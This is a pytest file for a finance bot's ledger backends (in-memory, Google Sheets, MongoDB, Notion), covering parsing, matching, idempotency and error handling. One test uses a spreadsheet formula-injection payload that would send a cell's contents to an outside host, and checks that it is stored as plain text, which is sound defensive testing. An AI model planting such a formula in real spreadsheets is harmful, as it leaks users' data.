"""
Tests for the ledger backends.

Every adapter must present the same contract: append records one entry
(or acknowledges a duplicate), query returns the amounts whose label
matches case-insensitively and skips malformed amounts.
"""

import asyncio
import threading
from types import SimpleNamespace

import gspread
import pytest
from pymongo.errors import ServerSelectionTimeoutError, WriteError

from conftest import (
    FakeCollection,
    FakeNotionSession,
    FakeSheetsClient,
    FakeWorksheet,
    make_transaction,
    notion_page,
)
from ledger_bot.config import AppSettings, NotionSettings, Settings
from ledger_bot.models.transaction import Dimension
from ledger_bot.services.storage import (
    GoogleSheetsLedgerStore,
    InMemoryLedgerStore,
    MongoLedgerStore,
    NotionLedgerStore,
    StoreError,
    StoreErrorKind,
    coerce_amount,
    create_ledger_store,
    label_matches,
)
from ledger_bot.services.storage.google_sheets import LEDGER_COLUMNS


class FakeAPIError(gspread.exceptions.APIError):
    """APIError carrying only a status code."""

    def __init__(self, status_code: int):
        Exception.__init__(self, f"HTTP {status_code}")
        self.response = SimpleNamespace(status_code=status_code)

    def __str__(self):
        return self.args[0]


class TestCoerceAmount:
    """Tests for re-parsing amounts read back from a backend."""

    @pytest.mark.parametrize("raw,expected", [
        (10, 10.0),
        (10.5, 10.5),
        ("10,50", 10.5),
        ("10.50", 10.5),
        ("R$ 1.234,56", 1234.56),
        ("1,234.56", 1234.56),
        ("-5", -5.0),
        ("R$ -5,00", -5.0),
        ("1.234.567", 1234567.0),
        (" 7 ", 7.0),
    ])
    def test_parses(self, raw, expected):
        """Test numbers and loosely formatted strings."""
        assert coerce_amount(raw) == pytest.approx(expected)

    @pytest.mark.parametrize("raw", [None, "", "abc", "12abc", True, float("nan"), float("inf"), [], {}])
    def test_rejects(self, raw):
        """Test that malformed values give None."""
        assert coerce_amount(raw) is None


class TestLabelMatches:
    """Tests for case-insensitive label comparison."""

    def test_case_insensitive(self):
        """Test that "pix" matches "Pix"."""
        assert label_matches("Pix", "pix")
        assert label_matches(" CRÉDITO ", "crédito")

    def test_collection_contains(self):
        """Test that a multi-valued label matches any of its values."""
        assert label_matches(["Pix", "Débito"], "débito")
        assert not label_matches(["Pix"], "Débito")

    def test_non_label(self):
        """Test that missing labels never match."""
        assert not label_matches(None, "pix")
        assert not label_matches(3, "3")


class TestInMemoryLedgerStore:
    """Tests for the list-backed ledger."""

    def test_append_and_query(self):
        """Test that appended amounts come back from query."""
        store = InMemoryLedgerStore()
        asyncio.run(store.append(make_transaction(amount=20, payment_type="Credito")))
        asyncio.run(store.append(make_transaction(amount=5, payment_type="Credito")))
        asyncio.run(store.append(make_transaction(amount=7, payment_type="Pix")))

        assert asyncio.run(store.query(Dimension.PAYMENT_TYPE, "credito")) == [20.0, 5.0]

    def test_record_shape(self):
        """Test the persisted record keys."""
        store = InMemoryLedgerStore()
        asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))
        record = store.records[0]
        assert set(record) == {
            "description", "amount", "category", "paymentType", "timestamp", "idempotencyKey",
        }

    def test_duplicate_key_is_noop(self):
        """Test that re-appending the same idempotency key stores nothing."""
        store = InMemoryLedgerStore()
        first = asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))
        second = asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))

        assert first.stored is True
        assert second.stored is False
        assert second.duplicate is True
        assert len(store.records) == 1

    def test_without_key_appends_every_time(self):
        """Test at-least-once behaviour when no key is supplied."""
        store = InMemoryLedgerStore()
        asyncio.run(store.append(make_transaction()))
        asyncio.run(store.append(make_transaction()))
        assert len(store.records) == 2

    def test_query_skips_malformed_amounts(self):
        """Test that non-numeric stored amounts are skipped."""
        store = InMemoryLedgerStore(records=[
            {"amount": 10, "category": "Casa", "paymentType": "Pix"},
            {"amount": "abc", "category": "Casa", "paymentType": "Pix"},
            {"category": "Casa", "paymentType": "Pix"},
            {"amount": "2,50", "category": "casa", "paymentType": "Pix"},
        ])
        assert asyncio.run(store.query(Dimension.CATEGORY, "Casa")) == [10.0, 2.5]


class TestGoogleSheetsLedgerStore:
    """Tests for the Google Sheets adapter."""

    def _store(self, rows=None, **kwargs):
        worksheet = FakeWorksheet([LEDGER_COLUMNS] + (rows or []), **kwargs)
        return GoogleSheetsLedgerStore(FakeSheetsClient(worksheet)), worksheet

    def test_append_writes_row(self):
        """Test that a transaction becomes one row in column order."""
        store, worksheet = self._store()
        tx = make_transaction(idempotency_key="wamid.1")

        ack = asyncio.run(store.append(tx))

        assert ack.stored is True
        row, option = worksheet.appended[0]
        assert row == [
            tx.timestamp.isoformat(), "Mercado", 10.5, "Alimentação", "Crédito", "wamid.1",
        ]
        assert option == "RAW"

    def test_formula_text_is_stored_verbatim(self):
        """Test that user text starting with = is written as plain text."""
        store, worksheet = self._store()
        description = '=IMPORTDATA("http://x/"&B2)'

        asyncio.run(store.append(make_transaction(description=description)))

        row, option = worksheet.appended[0]
        assert option == "RAW"
        assert row[1] == description
        assert worksheet.values[-1][1] == description

    def test_empty_sheet_gets_header(self):
        """Test that appending to an empty worksheet writes the header first."""
        worksheet = FakeWorksheet([])
        store = GoogleSheetsLedgerStore(FakeSheetsClient(worksheet))

        assert asyncio.run(store.query(Dimension.PAYMENT_TYPE, "credito")) == []
        asyncio.run(store.append(make_transaction(amount=20, payment_type="Credito")))
        asyncio.run(store.append(make_transaction(amount=5, payment_type="Credito")))

        assert worksheet.values[0] == LEDGER_COLUMNS
        assert worksheet.inserted == [(LEDGER_COLUMNS, 1, "RAW")]
        assert asyncio.run(store.query(Dimension.PAYMENT_TYPE, "credito")) == [20.0, 5.0]

    def test_headerless_sheet_keeps_existing_rows(self):
        """Test that a first row of data is shifted down, not lost."""
        worksheet = FakeWorksheet([
            ["2024-01-01", "a", "7", "Casa", "Credito", ""],
        ])
        store = GoogleSheetsLedgerStore(FakeSheetsClient(worksheet))

        asyncio.run(store.append(make_transaction(amount=3, payment_type="Credito")))

        assert worksheet.values[0] == LEDGER_COLUMNS
        assert worksheet.values[1][2] == "7"
        assert asyncio.run(store.query(Dimension.PAYMENT_TYPE, "credito")) == [7.0, 3.0]

    def test_header_written_once(self):
        """Test that a sheet with a header is not touched."""
        store, worksheet = self._store()
        asyncio.run(store.append(make_transaction()))
        assert worksheet.inserted == []

    def test_duplicate_key_is_noop(self):
        """Test that a row with the same key blocks the append."""
        store, worksheet = self._store()
        asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))
        ack = asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))

        assert ack.duplicate is True
        assert len(worksheet.appended) == 1

    def test_query_reparses_formatted_cells(self):
        """Test that formatted strings are summed and bad rows skipped."""
        store, _ = self._store([
            ["2024-01-01", "a", "R$ 20,00", "Casa", "Credito", ""],
            ["2024-01-01", "b", "5", "casa", "CREDITO", ""],
            ["2024-01-01", "c", "abc", "Casa", "Credito", ""],
            ["2024-01-01", "d", "9", "Casa", "Pix", ""],
            ["2024-01-01"],
        ])
        assert asyncio.run(store.query(Dimension.PAYMENT_TYPE, "credito")) == [20.0, 5.0]

    def test_query_finds_columns_by_header(self):
        """Test that reordered columns are still found."""
        worksheet = FakeWorksheet([
            ["Amount", "Payment_Type", "Category"],
            ["3", "Pix", "Casa"],
        ])
        store = GoogleSheetsLedgerStore(FakeSheetsClient(worksheet))
        assert asyncio.run(store.query(Dimension.CATEGORY, "casa")) == [3.0]

    def test_query_missing_column(self):
        """Test that a sheet without an amount column is a read failure."""
        worksheet = FakeWorksheet([["category"], ["Casa"]])
        store = GoogleSheetsLedgerStore(FakeSheetsClient(worksheet))
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.query(Dimension.CATEGORY, "Casa"))
        assert exc_info.value.kind == StoreErrorKind.READ_FAILED

    def test_client_error_is_backend_rejected(self):
        """Test that a 4xx from the API maps to BACKEND_REJECTED."""
        store, _ = self._store(append_error=FakeAPIError(400))
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.append(make_transaction()))
        assert exc_info.value.kind == StoreErrorKind.BACKEND_REJECTED

    def test_server_error_is_write_failed(self):
        """Test that a 5xx from the API maps to WRITE_FAILED."""
        store, _ = self._store(append_error=FakeAPIError(503))
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.append(make_transaction()))
        assert exc_info.value.kind == StoreErrorKind.WRITE_FAILED

    def test_network_error_is_write_failed(self):
        """Test that other exceptions map to WRITE_FAILED."""
        store, _ = self._store(append_error=ConnectionError("reset"))
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.append(make_transaction()))
        assert exc_info.value.kind == StoreErrorKind.WRITE_FAILED


class TestMongoLedgerStore:
    """Tests for the MongoDB adapter."""

    def test_append_with_key_upserts(self):
        """Test that a keyed append inserts once and then reports duplicates."""
        collection = FakeCollection()
        store = MongoLedgerStore(collection)

        first = asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))
        second = asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))

        assert first.stored is True
        assert second.duplicate is True
        assert len(collection.documents) == 1
        assert collection.documents[0]["paymentType"] == "Crédito"
        assert collection.documents[0]["idempotencyKey"] == "wamid.1"

    def test_append_without_key_inserts(self):
        """Test plain inserts when no key is supplied."""
        collection = FakeCollection()
        store = MongoLedgerStore(collection)
        asyncio.run(store.append(make_transaction()))
        asyncio.run(store.append(make_transaction()))
        assert len(collection.documents) == 2

    def test_query_uses_collation(self):
        """Test case-insensitive matching and malformed amounts skipped."""
        collection = FakeCollection([
            {"amount": 20, "paymentType": "Credito"},
            {"amount": 5, "paymentType": "credito"},
            {"amount": "oops", "paymentType": "Credito"},
            {"amount": 9, "paymentType": ["Pix", "Credito"]},
            {"amount": 1, "paymentType": "Pix"},
        ])
        store = MongoLedgerStore(collection)

        amounts = asyncio.run(store.query(Dimension.PAYMENT_TYPE, "CREDITO"))

        assert amounts == [20.0, 5.0, 9.0]
        assert collection.collations[0].document["strength"] == 2
        assert collection.collations[0].document["locale"] == "pt"

    def test_total_sums_numbers(self):
        """Test the server-side sum, its empty case and that it skips string amounts."""
        collection = FakeCollection([
            {"amount": 20, "category": "Casa"},
            {"amount": 5, "category": "casa"},
            {"amount": "3", "category": "Casa"},
        ])
        store = MongoLedgerStore(collection)
        assert asyncio.run(store.total(Dimension.CATEGORY, "casa")) == 25.0
        assert sum(asyncio.run(store.query(Dimension.CATEGORY, "casa"))) == 28.0
        assert asyncio.run(store.total(Dimension.CATEGORY, "Lazer")) == 0.0

    def test_write_error_is_backend_rejected(self):
        """Test that a refused document maps to BACKEND_REJECTED."""
        store = MongoLedgerStore(FakeCollection(error=WriteError("Document failed validation", 121)))
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.append(make_transaction()))
        assert exc_info.value.kind == StoreErrorKind.BACKEND_REJECTED

    def test_unreachable_server(self):
        """Test that connection errors map to WRITE_FAILED and READ_FAILED."""
        store = MongoLedgerStore(FakeCollection(error=ServerSelectionTimeoutError("no servers")))
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.append(make_transaction()))
        assert exc_info.value.kind == StoreErrorKind.WRITE_FAILED

        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.query(Dimension.CATEGORY, "Casa"))
        assert exc_info.value.kind == StoreErrorKind.READ_FAILED


class RendezvousNotionSession(FakeNotionSession):
    """Each post waits until `parties` posts are running concurrently."""

    def __init__(self, parties: int, **kwargs):
        super().__init__(**kwargs)
        self.barrier = threading.Barrier(parties)

    def post(self, url, json, headers, timeout):
        self.barrier.wait(timeout=5)
        return super().post(url, json, headers, timeout)


class TestNotionLedgerStore:
    """Tests for the Notion adapter."""

    def _settings(self, **overrides) -> NotionSettings:
        values = {"api_token": "secret", "database_id": "db-1"}
        values.update(overrides)
        return NotionSettings(**values)

    def test_append_creates_page(self):
        """Test the typed property payload of a new page."""
        session = FakeNotionSession()
        store = NotionLedgerStore(self._settings(), session=session)
        tx = make_transaction(idempotency_key="wamid.1")

        ack = asyncio.run(store.append(tx))

        assert ack.stored is True
        body = session.created[0]
        assert body["parent"] == {"database_id": "db-1"}
        props = body["properties"]
        assert props["Descrição"]["title"][0]["text"]["content"] == "Mercado"
        assert props["Valor"] == {"number": 10.5}
        assert props["Categoria"] == {"select": {"name": "Alimentação"}}
        assert props["Pagamento"] == {"multi_select": [{"name": "Crédito"}]}
        assert props["ID da mensagem"]["rich_text"][0]["text"]["content"] == "wamid.1"

    def test_select_payment_encoding(self):
        """Test the single-select payment type layout."""
        session = FakeNotionSession()
        store = NotionLedgerStore(self._settings(payment_type_encoding="select"), session=session)
        asyncio.run(store.append(make_transaction()))
        assert session.created[0]["properties"]["Pagamento"] == {"select": {"name": "Crédito"}}

    def test_duplicate_key_is_noop(self):
        """Test that an existing page with the key blocks the append."""
        session = FakeNotionSession(pages=[notion_page(10, "Casa", ["Pix"], key="wamid.1")])
        store = NotionLedgerStore(self._settings(), session=session)

        ack = asyncio.run(store.append(make_transaction(idempotency_key="wamid.1")))

        assert ack.duplicate is True
        assert session.created == []

    def test_rejected_page(self):
        """Test that a 400 on create maps to BACKEND_REJECTED."""
        session = FakeNotionSession(write_status=400)
        store = NotionLedgerStore(self._settings(), session=session)
        with pytest.raises(StoreError) as exc_info:
            asyncio.run(store.append(make_transaction()))
        assert exc_info.value.kind == StoreErrorKind.BACKEND_REJECTED

    def test_query_filters_client_side_across_pages(self):
        """Test pagination, case-insensitive multi-select matching and skipped amounts."""
        pages = [notion_page(1, "Casa", ["Credito"]) for _ in range(150)]
        pages.append(notion_page(None, "Casa", ["credito"]))
        pages.append(notion_page(4, "Casa", ["Pix", "CREDITO"]))
        pages.append(notion_page(100, "Casa", ["Pix"]))
        session = FakeNotionSession(pages=pages)
        store = NotionLedgerStore(self._settings(), session=session)

        amounts = asyncio.run(store.query(Dimension.PAYMENT_TYPE, "credito"))

        assert len(amounts) == 151
        assert sum(amounts) == 154.0
        assert len(session.calls) == 2

    def test_calls_do_not_block_each_other(self):
        """Test that two queries are in flight at the same time."""
        session = RendezvousNotionSession(parties=2, pages=[notion_page(4, "Casa", ["Pix"])])
        store = NotionLedgerStore(self._settings(), session=session)

        async def both():
            return await asyncio.gather(
                store.query(Dimension.CATEGORY, "casa"),
                store.query(Dimension.CATEGORY, "casa"),
            )

        assert asyncio.run(both()) == [[4.0], [4.0]]


class TestCreateLedgerStore:
    """Tests for backend selection."""

    def test_memory_backend(self):
        """Test that the memory backend needs no other settings."""
        store = create_ledger_store(AppSettings(ledger_backend="memory"), Settings())
        assert isinstance(store, InMemoryLedgerStore)

    def test_unknown_backend(self):
        """Test that an unknown backend name is refused."""
        app_settings = AppSettings(ledger_backend="memory").model_copy(
            update={"ledger_backend": "sqlite"}
        )
        with pytest.raises(ValueError):
            create_ledger_store(app_settings, Settings())
